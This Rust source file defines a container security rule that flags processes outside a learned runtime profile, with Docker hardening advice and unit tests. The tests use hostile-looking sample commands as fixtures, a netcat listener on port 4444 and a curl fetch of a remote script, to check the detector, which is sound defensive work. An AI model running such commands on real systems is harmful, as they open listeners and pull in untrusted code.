//! `process-drift`: a program runs that the container's image never ran while it was learned.

use crate::model::runtime::ProfileState;
use crate::model::{Severity, Workload};
use crate::rules::{DockerFix, Hit, Rule};
use std::collections::BTreeSet;

fn check(w: &Workload) -> Vec<Hit> {
    let Some(runtime) = &w.runtime else {
        return Vec::new();
    };
    let Some(profile) = runtime
        .profile
        .as_ref()
        .filter(|p| p.state == ProfileState::Watching)
    else {
        return Vec::new();
    };
    let when = |t: jiff::Timestamp| t.strftime("%Y-%m-%d %H:%M:%S UTC").to_string();
    let mut reported = BTreeSet::new();
    // Running now: one hit per new program, however many copies run.
    let mut hits: Vec<Hit> = runtime
        .processes
        .iter()
        .filter(|p| !profile.knows(p))
        .filter(|p| reported.insert(p.profile_key()))
        .map(|p| {
            let seen = p
                .first_seen
                .map(|t| format!(", first seen {}", when(t)))
                .unwrap_or_default();
            Hit::new(
                Severity::High,
                format!(
                    "`{}` is not in the learned profile of {}: {} (pid {}, user {}){seen}",
                    p.profile_key(),
                    profile.image,
                    p.command,
                    p.pid,
                    p.user
                ),
            )
            .about(w.name.clone())
        })
        .collect();
    // Seen before and gone now: still drift until someone looks and learns again.
    hits.extend(
        profile
            .drift
            .iter()
            .filter(|d| !reported.contains(&d.program))
            .map(|d| {
                Hit::new(
                    Severity::High,
                    format!(
                        "`{}` is not in the learned profile of {}: {} ran, first seen {}; not running now",
                        d.program,
                        profile.image,
                        d.example,
                        when(d.first_seen)
                    ),
                )
                .about(w.name.clone())
            }),
    );
    hits
}

pub static PROCESS_DRIFT: Rule = Rule {
    id: "process-drift",
    title: "Process outside the learned profile",
    severity: Severity::High,
    risk: "Containers run the same few programs for their whole life. A new one (a shell, a \
           downloader, a scanner, a miner) usually means someone got in: through `docker exec`, \
           an exposed service, or a compromised dependency.",
    docker: Some(DockerFix {
        advice: "Find out who started it: `docker top {subject}`, `docker events --filter \
                 container={subject} --filter event=exec_start`, the audit log of whoever can reach \
                 the Docker socket. If it is legitimate (a new release runs a new helper), press \
                 `l` on the container to learn again (it asks first, naming what it will accept). If not, pause it (`p` in shipshape, or \
                 `docker pause {subject}`), keep it for forensics (`docker diff`, `docker export`), \
                 and rebuild from a trusted image. Make drift harder: read-only root filesystem, \
                 no shell in the image, no new privileges.",
        run: "--read-only --tmpfs /tmp:rw,noexec,nosuid --security-opt no-new-privileges",
        compose: "read_only: true\ntmpfs:\n  - /tmp:rw,noexec,nosuid\nsecurity_opt:\n  - no-new-privileges:true",
        references: &[
            "NIST SP 800-190 4.4.4",
            "Falco: Drop and execute new binary in container",
        ],
    }),
    kube: None,
    check,
};

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::runtime::{Process, ProfileFacts, RuntimeFacts};
    use crate::rules::test_support::docker;

    fn process(pid: u32, name: &str, command: &str) -> Process {
        Process::new(pid, name, command)
    }

    fn watched(state: ProfileState, processes: Vec<Process>) -> Workload {
        let mut w = docker();
        w.runtime = Some(RuntimeFacts {
            sampled_at: None,
            processes,
            connections: Vec::new(),
            profile: Some(ProfileFacts {
                image: "shop/web:1".into(),
                state,
                until: jiff::Timestamp::UNIX_EPOCH,
                known: vec!["httpd".into(), "sleep".into()],
                drift: Vec::new(),
            }),
        });
        w
    }

    #[test]
    fn fires_once_per_new_program_while_watching() {
        let w = watched(
            ProfileState::Watching,
            vec![
                process(10, "httpd", "httpd -f -p 80"),
                process(11, "httpd", "httpd -f -p 81"),
                process(12, "nc", "nc -l -p 4444"),
                process(13, "nc", "nc -l -p 4445"),
            ],
        );
        let hits = check(&w);
        assert_eq!(hits.len(), 1, "{hits:?}");
        assert!(hits[0].evidence.contains("`nc`") && hits[0].evidence.contains("nc -l -p 4444"));
        assert!(hits[0].evidence.contains("shop/web:1"));
    }

    #[test]
    fn quiet_while_learning_without_profile_or_when_all_known() {
        let learning = watched(ProfileState::Learning, vec![process(12, "nc", "nc -l")]);
        assert!(check(&learning).is_empty());
        let known = watched(
            ProfileState::Watching,
            vec![process(10, "sleep", "sleep 1d")],
        );
        assert!(check(&known).is_empty());
        assert!(check(&docker()).is_empty());
    }

    #[test]
    fn a_program_that_ran_and_exited_stays_drift() {
        let mut w = watched(
            ProfileState::Watching,
            vec![process(10, "sleep", "sleep 1d")],
        );
        if let Some(p) = w.runtime.as_mut().and_then(|r| r.profile.as_mut()) {
            p.drift.push(crate::model::runtime::DriftSeen {
                program: "curl".into(),
                first_seen: "2026-11-29T07:40:12Z".parse().unwrap(),
                example: "curl -s http://x/i.sh".into(),
            });
        }
        let hits = check(&w);
        assert_eq!(hits.len(), 1);
        assert!(
            hits[0].evidence.contains("`curl`") && hits[0].evidence.ends_with("not running now")
        );
    }

    #[test]
    fn says_when_it_was_first_seen() {
        let mut p = process(12, "nc", "nc -l");
        p.first_seen = Some("2026-11-29T07:40:12Z".parse().unwrap());
        let hits = check(&watched(ProfileState::Watching, vec![p]));
        assert!(
            hits[0]
                .evidence
                .ends_with("first seen 2026-11-29 07:40:12 UTC"),
            "{}",
            hits[0].evidence
        );
    }
}
